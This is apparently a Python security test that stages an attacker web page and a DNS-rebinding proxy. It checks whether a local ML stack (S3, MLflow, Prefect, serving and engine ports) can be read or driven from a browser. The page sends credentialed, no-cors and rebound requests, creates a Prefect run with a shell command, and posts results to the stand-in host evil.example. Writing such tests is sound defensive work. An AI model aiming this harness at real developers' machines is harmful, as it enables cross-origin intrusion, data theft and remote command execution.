"""What a web page that a developer opens could try on the servers of a running stack, and a browser that opens such a page."""

import json
import threading
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager, suppress
from dataclasses import asdict, dataclass
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from infra.settings import Settings
from tests.infra import browser

PLANTED = "planted"
"""In the name of everything that the requests below would make."""
EVIL, REBOUND = "evil.example", "rebound.example"
PAGE_SECONDS = 120.0
SOCKETS = ("/api/events/in", "/generate")
"""Paths of WebSockets. They are tried there alone, since a browser slows down a page whose sockets are refused."""


@dataclass(frozen=True)
class Attack:
    """A request to one port of the stack."""

    part: str
    port: int
    method: str
    path: str
    body: str = ""


def attacks(settings: Settings, deployment: str, marker: Path) -> list[Attack]:
    """Return requests to every port that would read something, or make something with PLANTED in its name.

    Args:
        deployment: id of a deployment of Prefect.
        marker: file that a run's command would make.
    """
    run = {"name": PLANTED, "job_variables": {"command": f"touch {marker}"}}
    alias = {"name": settings.registry.model, "alias": PLANTED, "version": "1"}
    prompt = {"model": settings.model.name, "prompt": PLANTED}
    move = {"version": "1", "champion": "1", "reason": PLANTED}
    requests: dict[str, tuple[str | None, list[tuple[str, str, Any]]]] = {
        "s3": (settings.store.endpoint, [("GET", "/", None), ("PUT", f"/{settings.store.bucket}/events/{PLANTED}", "x")]),
        "mlflow": (
            settings.registry.uri,
            [
                ("GET", "/", None),
                ("GET", "/health", None),
                ("GET", f"/api/2.0/mlflow/registered-models/get?name={settings.registry.model}", None),
                ("GET", "/ajax-api/3.0/mlflow/assistant/config", None),
                ("POST", "/api/2.0/mlflow/registered-models/alias", alias),
            ],
        ),
        "prefect": (
            settings.orchestration.api.removesuffix("/api"),
            [
                ("GET", "/", None),
                ("GET", "/api/health", None),
                ("GET", "/ui-settings", None),
                ("GET", SOCKETS[0], None),
                ("POST", "/api/deployments/filter", {}),
                ("POST", f"/api/deployments/{deployment}/create_flow_run", run),
            ],
        ),
        "completions": (
            f"http://127.0.0.1:{settings.serving.port}",
            [
                ("GET", "/", None),
                ("GET", "/ready", None),
                ("GET", "/metrics", None),
                ("GET", "/admin/live", None),
                ("POST", "/v1/completions", prompt),
                ("POST", "/admin/promote", move),
            ],
        ),
        "feedback": (
            f"http://127.0.0.1:{settings.serving.feedback_port}",
            [
                ("GET", "/health", None),
                ("GET", "/ready", None),
                ("POST", "/v1/continue/events", {"name": "autocomplete", "data": {}}),
            ],
        ),
    }
    for slot, url in enumerate((*settings.serving.engines, settings.evaluate.engine_url)):
        paths = [("GET", "/health", None), ("GET", SOCKETS[1], None), ("POST", "/swap", {"path": "/", "version": PLANTED})]
        requests[f"engine-{slot}"] = (str(url), paths)
    return [
        Attack(part, urlsplit(url or "").port or 80, method, path, json.dumps(body) if body is not None else "")
        for part, (url, paths) in requests.items()
        for method, path, body in paths
    ]


def send(attack: Attack, headers: Mapping[str, str], method: str = "") -> tuple[int, dict[str, str], str]:
    """Send a request as it is written; return the answer's status, headers in lower case, and body."""
    connection = HTTPConnection("127.0.0.1", attack.port, timeout=30)
    try:
        connection.putrequest(method or attack.method, attack.path, skip_host="Host" in headers)
        body = attack.body.encode()
        for name, value in {"Content-Type": "application/json", "Content-Length": str(len(body)), **headers}.items():
            connection.putheader(name, value)
        connection.endheaders(body)
        answer = connection.getresponse()
        content = b""
        with suppress(ConnectionResetError):  # Go's server refuses a malformed Host at once, and resets what it has not read
            content = answer.read()
        return answer.status, {name.lower(): value for name, value in answer.getheaders()}, content.decode(errors="replace")
    finally:
        connection.close()


class Attacker(ThreadingHTTPServer):
    """The attacker's web server and name server in one: an HTTP proxy that serves the attacker's pages, and sends every other
    request for REBOUND to this machine, as a name does that points at 127.0.0.1 once its page is loaded (DNS rebinding)."""

    daemon_threads = True

    def __init__(self, targets: Sequence[Attack]) -> None:
        super().__init__(("127.0.0.1", 0), _Proxy)
        self.targets = targets
        self.ports = sorted({target.port for target in targets})
        self.reports: list[list[dict[str, Any]]] = []
        self.complete = threading.Event()

    def page(self, host: str) -> str:
        """Return the page of one of the attacker's hosts."""
        port = urlsplit(f"//{host}").port
        if not port:
            frames = "".join(f'<iframe src="http://{REBOUND}:{port}/attack"></iframe>' for port in self.ports)
            return _page(self.targets, [f"http://127.0.0.1:{target.port}" for target in self.targets], ACROSS) + frames
        own = [target for target in self.targets if target.port == port]
        return _page(own, [""] * len(own), WITHIN)

    def report(self, text: str) -> None:
        """Take the results of one page."""
        self.reports.append(json.loads(text))
        if len(self.reports) > len(self.ports):
            self.complete.set()


class _Proxy(BaseHTTPRequestHandler):
    server: Attacker

    def _handle(self) -> None:
        url = urlsplit(self.path)
        body = self.rfile.read(int(self.headers.get("content-length", 0)))
        if url.hostname == EVIL and url.path == "/report":
            self.server.report(body.decode())
            self._answer(200, {}, b"")
        elif url.hostname == EVIL or url.path == "/attack":
            self._answer(200, {"Content-Type": "text/html"}, self.server.page(url.netloc).encode())
        elif url.hostname == REBOUND:
            connection = HTTPConnection("127.0.0.1", url.port, timeout=30)
            try:
                target = url._replace(scheme="", netloc="").geturl()
                connection.request(
                    self.command, target, body, {k: v for k, v in self.headers.items() if k.lower() != "proxy-connection"}
                )
                answer = connection.getresponse()
                kept = {
                    k: v for k, v in answer.getheaders() if k.lower() not in ("transfer-encoding", "connection", "content-length")
                }
                self._answer(answer.status, kept, answer.read())
            finally:
                connection.close()
        else:
            self._answer(502, {}, b"")

    do_GET = do_POST = do_PUT = do_OPTIONS = _handle

    def _answer(self, status: int, headers: Mapping[str, str], body: bytes) -> None:
        self.send_response_only(status)
        for name, value in {**headers, "Content-Length": str(len(body)), "Connection": "close"}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


class _Open(BaseHTTPRequestHandler):
    """A server as Prefect's was: it answers every host and every origin."""

    def _handle(self) -> None:
        self.send_response(200)
        for name in ("Origin", "Headers", "Methods"):
            self.send_header(f"Access-Control-Allow-{name}", "*")
        self.send_header("Content-Length", "4")
        self.end_headers()
        self.wfile.write(b"open")

    do_GET = do_POST = do_OPTIONS = _handle

    def log_message(self, format: str, *args: object) -> None:
        pass


@contextmanager
def serving(server: ThreadingHTTPServer) -> Iterator[int]:
    """Run a server in a thread; yields its port."""
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


def open_door() -> ThreadingHTTPServer:
    """Return a server that a page can read, to show that the page's attacks work."""
    return ThreadingHTTPServer(("127.0.0.1", 0), _Open)


def play(program: str, targets: Sequence[Attack], links: Mapping[str, str], folder: Path) -> list[dict[str, Any]]:
    """Log a browser in by links, then open the attacker's pages; return every result: part, way, status (0: not readable), text.

    Args:
        links: login links of parts, by part.

    Raises:
        TimeoutError: a link logs nobody in, or the pages did not report in time.
    """
    attacker = Attacker(targets)
    with serving(attacker) as port, browser.running(program, folder, [f"--proxy-server=http://127.0.0.1:{port}"]) as victim:
        for link in links.values():
            tab = victim.open(link)
            entered = f"location.href.startsWith('{link.partition('?')[0]}') && !location.search.includes('login')"
            victim.until(tab, f"{entered} && performance.getEntriesByType('navigation')[0].responseStatus == 200")
        victim.open(f"http://{EVIL}/")
        reported = f"pages reported of {len(attacker.ports) + 1}"
        browser.wait(attacker.complete.is_set, lambda: f"{len(attacker.reports)} {reported}", PAGE_SECONDS)
    return [result for report in attacker.reports for result in report]


ACROSS = """
    await attempt(target, "read", {});
    await attempt(target, "with cookies", {credentials: "include"});
    await attempt(target, "json", {method: target.method, headers: {"Content-Type": "application/json"}, ...content});
    if (target.method == "POST") await attempt(target, "blind", {method: "POST", mode: "no-cors", ...content});
    if (SOCKETS.includes(target.path)) await attemptSocket(target);
"""
"""What the page of another origin tries."""
WITHIN = """
    await attempt(target, "rebound", {method: target.method, headers: {"Content-Type": "application/json"}, ...content});
"""
"""What the page tries whose host name has been pointed at this machine."""


def _page(targets: Sequence[Attack], origins: Sequence[str], ways: str) -> str:
    listed = json.dumps(
        [{**asdict(target), "url": origin + target.path} for target, origin in zip(targets, origins, strict=True)]
    )
    return (
        _PAGE.replace("TARGETS", listed).replace("WAYS", ways).replace("EVIL", EVIL).replace("SOCKET_PATHS", json.dumps(SOCKETS))
    )


_PAGE = """<!doctype html><script>
const results = [], SOCKETS = SOCKET_PATHS;
async function attempt(target, way, options) {
  const result = {part: target.part, path: target.path, way, status: 0, text: ""};
  try {
    const answer = await fetch(target.url, {...options, signal: AbortSignal.timeout(10000)});
    result.status = answer.status;
    result.text = (await answer.text()).slice(0, 200);
  } catch (error) { result.text = String(error); }
  results.push(result);
}
function attemptSocket(target) {
  return new Promise(resolve => {
    const result = {part: target.part, path: target.path, way: "socket", status: 0, text: "closed"};
    const end = status => { result.status = status; results.push(result); socket.close(); resolve(); };
    const socket = new WebSocket(target.url.replace("http", "ws"), ["prefect"]);
    socket.onopen = () => end(101);
    socket.onerror = () => end(0);
  });
}
async function run() {
  for (const target of TARGETS) {
    const content = target.method == "GET" ? {} : {body: target.body};
    WAYS
  }
  await fetch("http://EVIL/report", {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
}
run();
</script>"""
